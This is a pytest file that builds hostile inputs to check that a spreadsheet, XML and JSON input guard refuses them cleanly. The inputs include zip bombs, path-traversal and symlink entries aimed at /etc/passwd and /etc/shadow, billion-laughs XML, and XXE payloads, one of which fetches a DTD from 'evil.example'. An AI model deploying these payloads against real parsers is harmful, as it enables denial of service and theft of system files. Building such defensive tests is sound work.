"""A corpus of hostile files made at test time; the shared guard must refuse each cleanly, quickly, in bounded memory."""

from __future__ import annotations

import io
import os
import random
import resource
import struct
import sys
import time
import warnings
import zipfile
from pathlib import Path

import pytest

from commune_desk.domain.errors import ExpectedError
from commune_desk.services import safe_input
from commune_desk.services.safe_input import UnsafeInput

MB = 1024 * 1024
LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
          + ']>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol9;</workbook>')
XXE = ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
       '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>')


def _valid_xlsx_bytes() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Tuyên truyền"
    ws.append(["Ngày", "Hình thức", "Số người"])
    for i in range(20):
        ws.append([f"0{1 + i % 9}/03/2026", "Họp dân", i])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


VALID = _valid_xlsx_bytes()
# The guard's kind for these cases: its file cap (20 MiB) sits below the sparse file of 21 MiB.
KIND = safe_input.FileKind("test workbook", 20 * MB, safe_input.MAPPING.zip, safe_input.MAPPING.sheets, (".xlsx",))


def _members(data: bytes = VALID) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _zip(path: Path, members, *, compression=zipfile.ZIP_DEFLATED) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names warn when written
        with zipfile.ZipFile(path, "w", compression) as zf:
            for item in members:
                if isinstance(item, zipfile.ZipInfo):
                    zf.writestr(item, b"target")
                else:
                    zf.writestr(item[0], item[1])
    return path


def _xlsx_with(path: Path, replace: dict[str, bytes] | None = None, extra=()) -> Path:
    members = [(n, (replace or {}).get(n, d)) for n, d in _members()]
    return _zip(path, members + list(extra))


def _bytes(data: bytes):
    return lambda p: (p.write_bytes(data), p)[1]


def _random(seed: int, size: int):
    return _bytes(random.Random(seed).randbytes(size))


def _truncated(fraction: float):
    return _bytes(VALID[: int(len(VALID) * fraction)])


def _streamed_bomb(path: Path, name: str, size: int, extra=True) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        if extra:
            for n, d in _members():
                if n != name:
                    zf.writestr(n, d)
        with zf.open(name, "w", force_zip64=True) as fh:
            block = bytes(MB)
            for _ in range(size // MB):
                fh.write(block)
    return path


def _many_entries(count: int):
    def build(p):
        with zipfile.ZipFile(p, "w", zipfile.ZIP_STORED) as zf:
            for n, d in _members():
                zf.writestr(n, d)
            for i in range(count):
                zf.writestr(f"xl/media/e{i}.bin", b"")
        return p
    return build


def _patched(mutator):
    def build(p):
        data = bytearray(VALID)
        mutator(data)
        p.write_bytes(bytes(data))
        return p
    return build


def _set_declared_size(name: bytes, size: int):
    def mutate(data: bytearray):
        at = data.find(b"PK\x01\x02" )
        while at >= 0:
            n_len = struct.unpack("<H", data[at + 28:at + 30])[0]
            if bytes(data[at + 46:at + 46 + n_len]) == name:
                struct.pack_into("<I", data, at + 24, size)
                local = struct.unpack("<I", data[at + 42:at + 46])[0]
                struct.pack_into("<I", data, local + 22, size)
                return
            at = data.find(b"PK\x01\x02", at + 4)
        raise AssertionError(name)
    return mutate


def _set_flag(name: bytes, bit: int):
    def mutate(data: bytearray):
        at = data.find(b"PK\x01\x02")
        while at >= 0:
            n_len = struct.unpack("<H", data[at + 28:at + 30])[0]
            if bytes(data[at + 46:at + 46 + n_len]) == name:
                flags = struct.unpack("<H", data[at + 8:at + 10])[0] | bit
                struct.pack_into("<H", data, at + 8, flags)
                return
            at = data.find(b"PK\x01\x02", at + 4)
    return mutate


def _eocd_count(count: int):
    def mutate(data: bytearray):
        at = data.rfind(b"PK\x05\x06")
        struct.pack_into("<HH", data, at + 8, count, count)
    return mutate


def _symlink_entry(name: str, target: str):
    def build(p):
        info = zipfile.ZipInfo(name)
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        with zipfile.ZipFile(p, "w") as zf:
            for n, d in _members():
                if n != name:
                    zf.writestr(n, d)
            zf.writestr(info, target)
        return p
    return build


def _evil_name(name: str):
    return lambda p: _xlsx_with(p, extra=[(name, b"<x/>")])


def _xml_in(part: str, text: str, encoding="utf-8"):
    return lambda p: _xlsx_with(p, replace={part: text.encode(encoding)})


def _dir(p):
    p.mkdir()
    return p


def _symlink_file(p):
    real = p.with_name("real.xlsx")
    real.write_bytes(VALID)
    p.symlink_to(real)
    return p


def _sparse(size):
    def build(p):
        with open(p, "wb") as fh:
            fh.write(VALID[:4])
            fh.truncate(size)
        return p
    return build


def _docx_renamed(p):
    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    p.write_bytes(buf.getvalue())
    return p


WORKBOOK_CASES = {
    # not a zip at all behind an .xlsx name
    "empty": _bytes(b""),
    "one byte": _bytes(b"P"),
    "pk only": _bytes(b"PK"),
    "local header only": _bytes(b"PK\x03\x04"),
    "plain text": _bytes("Họ tên,Số CCCD\nA,1\n".encode()),
    "csv renamed": _bytes(b"a;b;c\n1;2;3\n" * 100),
    "html": _bytes(b"<html><body><table><tr><td>1</td></tr></table></body></html>"),
    "pdf header": _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
    "png header": _bytes(b"\x89PNG\r\n\x1a\n" + bytes(100)),
    "old xls (OLE)": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)),
    "gzip": _bytes(b"\x1f\x8b\x08\x00" + bytes(100)),
    "random 1": _random(1, 1000),
    "random 2": _random(2, 100_000),
    "random PK prefix": lambda p: (p.write_bytes(b"PK\x03\x04" + random.Random(3).randbytes(5000)), p)[1],
    "nul bytes": _bytes(bytes(4096)),
    # damaged archives
    "truncated 10%": _truncated(0.1),
    "truncated 50%": _truncated(0.5),
    "truncated 90%": _truncated(0.9),
    "truncated last byte": _truncated(1 - 1 / len(VALID)),
    "no end record": lambda p: (p.write_bytes(VALID.replace(b"PK\x05\x06", b"XX\x05\x06")), p)[1],
    "central directory garbage": _patched(lambda d: d.__setitem__(slice(d.find(b"PK\x01\x02") + 4,
                                                                         d.find(b"PK\x01\x02") + 40), bytes(36))),
    # dangerous names and types
    "dot-dot": _evil_name("../../evil.xml"),
    "dot-dot inside": _evil_name("xl/../../../etc/cron.d/x"),
    "backslash dot-dot": _evil_name("..\\..\\windows\\evil.xml"),
    "absolute posix": _evil_name("/etc/passwd"),
    "absolute windows": _evil_name("\\Windows\\System32\\evil.dll"),
    "drive letter": _evil_name("C:/Users/evil.xml"),
    "drive letter backslash": _evil_name("C:\\evil.xml"),
    "control character": _evil_name("xl/evil\x01.xml"),
    "overlong name": _evil_name("x" * 2000),
    "duplicate entry": lambda p: _xlsx_with(p, extra=[("xl/workbook.xml", b"<workbook/>")]),
    "symlink entry": _symlink_entry("xl/media/link", "/etc/passwd"),
    "symlink as workbook part": _symlink_entry("xl/workbook.xml", "/etc/shadow"),
    "encrypted flag": _patched(_set_flag(b"xl/workbook.xml", 0x1)),
    "bzip2 entries": lambda p: _zip(p, _members(), compression=zipfile.ZIP_BZIP2),
    "lzma entries": lambda p: _zip(p, _members(), compression=zipfile.ZIP_LZMA),
    # bombs and counts
    "bomb one entry 200 MB": lambda p: _streamed_bomb(p, "xl/worksheets/sheet1.xml", 200 * MB),
    "bomb extra entry 64 MB": lambda p: _streamed_bomb(p, "xl/media/zeros.bin", 64 * MB),
    "bomb spread 300 x 1 MB": lambda p: _zip(p, _members() + [(f"xl/media/z{i}.bin", bytes(MB)) for i in range(300)]),
    "declared size huge": _patched(_set_declared_size(b"xl/worksheets/sheet1.xml", 3_000_000_000)),
    "declared size lies small": _patched(_set_declared_size(b"xl/worksheets/sheet1.xml", 10)),
    "3000 entries": _many_entries(3000),
    "end record claims 65535": _patched(_eocd_count(65535)),
    # a zip, but not a workbook
    "zip without workbook": lambda p: _zip(p, [("readme.txt", b"hello")]),
    "docx renamed": _docx_renamed,
    "workbook part missing": lambda p: _zip(p, [(n, d) for n, d in _members() if n != "xl/workbook.xml"]),
    # hostile XML inside a workbook
    "billion laughs workbook": _xml_in("xl/workbook.xml", LAUGHS),
    "billion laughs utf-16": _xml_in("xl/workbook.xml", LAUGHS.replace('version="1.0"', 'version="1.0" '
                                                                       'encoding="UTF-16"'), "utf-16"),
    "external entity shared strings": lambda p: _xlsx_with(p, extra=[("xl/sharedStrings.xml", XXE.encode())]),
    "external entity content types": _xml_in("[Content_Types].xml", XXE.replace("sst", "Types")),
    "parameter entity": _xml_in("xl/styles.xml", '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % p SYSTEM '
                                '"http://evil.example/x.dtd"> %p;]><styleSheet/>'),
    "doctype only": _xml_in("docProps/app.xml", '<!DOCTYPE Properties><Properties/>'),
    "quadratic blowup": _xml_in("xl/worksheets/sheet1.xml", '<!DOCTYPE w [<!ENTITY a "' + "A" * 50_000 + '">]>'
                                "<worksheet>" + "&a;" * 2000 + "</worksheet>"),
    "malformed xml": _xml_in("xl/workbook.xml", "<workbook><sheets><sheet></workbook"),
    "xml rels doctype": _xml_in("_rels/.rels", '<?xml version="1.0"?><!DOCTYPE r SYSTEM "file:///dev/random">'
                                "<Relationships/>"),
    # wrong kinds of file system objects and sizes
    "directory named xlsx": _dir,
    "symlink to workbook": _symlink_file,
    "oversized sparse file": _sparse(21 * MB),
}
SUFFIX_CASES = {"wrong suffix xls": "x.xls", "wrong suffix csv": "x.csv", "no suffix": "workbook"}
XML_CASES = {
    "standalone billion laughs": LAUGHS.encode(),
    "standalone external entity": XXE.encode(),
    "standalone malformed": b"<a><b></a>",
}
JSON_CASES = {
    "json deep nesting": b"[" * 100_000 + b"]" * 100_000,
    "json invalid utf-8": b'{"a": "\xff\xfe"}',
    "json truncated": b'{"manifest": [1, 2, ',
}


def test_the_corpus_is_large_enough():
    assert len(WORKBOOK_CASES) + len(SUFFIX_CASES) + len(XML_CASES) + len(JSON_CASES) >= 50


def test_a_genuine_workbook_passes(tmp_path):
    path = tmp_path / "genuine.xlsx"
    path.write_bytes(VALID)
    wb = safe_input.open_workbook_safely(path, KIND)
    try:
        rows = list(wb["Tuyên truyền"].iter_rows(values_only=True))
    finally:
        wb.close()
    assert rows[0] == ("Ngày", "Hình thức", "Số người") and len(rows) == 21


def _peak_rss_mb() -> float:
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak / (1024 * 1024) if sys.platform == "darwin" else peak / 1024


@pytest.mark.parametrize("name", sorted(WORKBOOK_CASES))
def test_hostile_workbook_is_refused(tmp_path, name):
    path = WORKBOOK_CASES[name](tmp_path / "hostile.xlsx")
    rss_before = _peak_rss_mb()
    started = time.monotonic()
    with pytest.raises(UnsafeInput) as info:
        wb = safe_input.open_workbook_safely(path, KIND)
        wb.close()
    elapsed = time.monotonic() - started
    assert isinstance(info.value, ExpectedError)
    message = str(info.value)
    assert "hostile.xlsx" in message or "real.xlsx" in message, message
    assert elapsed < 5, f"{name}: {elapsed:.1f} s"
    assert _peak_rss_mb() - rss_before < 150, f"{name}: memory grew"


def test_entry_messages_name_the_entry(tmp_path):
    path = WORKBOOK_CASES["dot-dot"](tmp_path / "plan.xlsx")
    with pytest.raises(safe_input.UnsafeArchive, match=r"plan\.xlsx, entry '\.\./\.\./evil\.xml'"):
        safe_input.open_workbook_safely(path)
    path = WORKBOOK_CASES["billion laughs workbook"](tmp_path / "laughs.xlsx")
    with pytest.raises(safe_input.UnsafeXml, match=r"laughs\.xlsx, entry 'xl/workbook\.xml': has a DOCTYPE"):
        safe_input.open_workbook_safely(path)


@pytest.mark.parametrize("name", sorted(SUFFIX_CASES))
def test_wrong_suffix_is_refused(tmp_path, name):
    path = tmp_path / SUFFIX_CASES[name]
    path.write_bytes(VALID)
    with pytest.raises(safe_input.WrongFileType, match="xlsx"):
        safe_input.open_workbook_safely(path)


@pytest.mark.parametrize("name", sorted(XML_CASES))
def test_hostile_xml_file_is_refused(tmp_path, name):
    path = tmp_path / "manifest.xml"
    path.write_bytes(XML_CASES[name])
    started = time.monotonic()
    with pytest.raises(safe_input.UnsafeXml, match="manifest.xml"):
        safe_input.parse_xml_file(path)
    assert time.monotonic() - started < 2


@pytest.mark.parametrize("name", sorted(JSON_CASES))
def test_hostile_json_is_refused(tmp_path, name):
    path = tmp_path / "receipt.json"
    path.write_bytes(JSON_CASES[name])
    with pytest.raises(UnsafeInput, match="receipt.json"):
        safe_input.load_json_file(path)


def test_size_cap_applies_to_plain_reads(tmp_path):
    path = tmp_path / "big.json"
    path.write_bytes(b" " * 2048)
    with pytest.raises(safe_input.InputTooLarge, match="big.json"):
        safe_input.read_bytes_capped(path, max_bytes=1024)
    assert safe_input.read_bytes_capped(path, max_bytes=4096) == b" " * 2048


def test_read_zip_entry_is_bounded(tmp_path):
    path = _zip(tmp_path / "p.zip", [("a.bin", bytes(100_000))])
    with safe_input.open_checked_zip(path) as (zf, _infos):
        with pytest.raises(safe_input.InputTooLarge, match="entry 'a.bin'"):
            safe_input.read_zip_entry(zf, zf.getinfo("a.bin"), max_bytes=1000)
        assert len(safe_input.read_zip_entry(zf, zf.getinfo("a.bin"), max_bytes=200_000)) == 100_000


def test_entry_name_rules():
    ok = ("xl/workbook.xml", "docProps/core.xml", "a..b/c", "[Content_Types].xml", "xl/media/")
    bad = ("", "/x", "\\x", "C:x", "../x", "a/../../x", "a\\..\\x", "x\x00y", "a\\b", "a:b", "a//b", "./a",
           "x" * 513)
    assert [safe_input.entry_name_problem(n) for n in ok] == [None] * len(ok)
    assert all(safe_input.entry_name_problem(n) for n in bad)


def test_xml_prolog_check_streams():
    # A DOCTYPE hidden after a long comment is still found; a plain document passes after its first element.
    chunks = [b"<?xml version='1.0'?><!--" + b"x" * 100_000 + b"-->", b"<!DOCTYPE a [<!ENTITY e 'x'>]><a/>"]
    assert "DOCTYPE" in safe_input.xml_prolog_problem(iter(chunks))
    assert safe_input.xml_prolog_problem(iter([b"<a>", b"never closed"])) is None
    assert os.fspath  # keep os imported for the symlink case on all platforms
